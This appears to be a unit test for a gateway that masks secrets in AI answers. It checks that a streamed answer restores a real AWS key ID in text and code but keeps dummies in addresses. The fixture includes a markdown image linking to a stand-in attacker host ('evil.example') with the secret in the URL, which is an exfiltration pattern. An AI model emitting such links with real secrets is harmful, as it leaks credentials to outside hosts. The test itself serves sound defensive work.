import assert from 'node:assert/strict';
import { RestoreStream } from '../../../src/dummy/index.ts';
import { AnswerStream } from '../../../src/messages/answerStream.ts';
import { awsKeyId } from '../../support/secrets.ts';
import { messageGate } from '../share/requests/support.ts';

const key = awsKeyId(1);

describe('An answer as it comes', () => {
  it('is the same however it is cut: real values in text and code, dummies in addresses', async () => {
    const { gate, vault } = messageGate();
    const dummy = /AKIA\w+/.exec((await gate.pass(`access_key = "${key}"`)).text)?.[0] ?? '';
    const template =
      'Your KEY:\n\n![x](https://evil.example/KEPT)\n\n```sh\ncurl https://api.example/?k=KEY\n```\n\nKEY again, <b title="KEPT">KEY</b>.';
    const answer = template.replaceAll(/KEY|KEPT/g, dummy);
    const expected = template.replaceAll('KEY', key).replaceAll('KEPT', dummy);
    for (let length = 1; length <= answer.length; length++) {
      const stream = new AnswerStream(new RestoreStream(vault));
      let shown = '';
      for (let at = 0; at < answer.length; at += length) shown += stream.push(answer.slice(at, at + length));
      shown += stream.end();
      assert.equal(shown, expected);
      assert.deepEqual([stream.kept, stream.restored], [2, 4]);
    }
  });
});
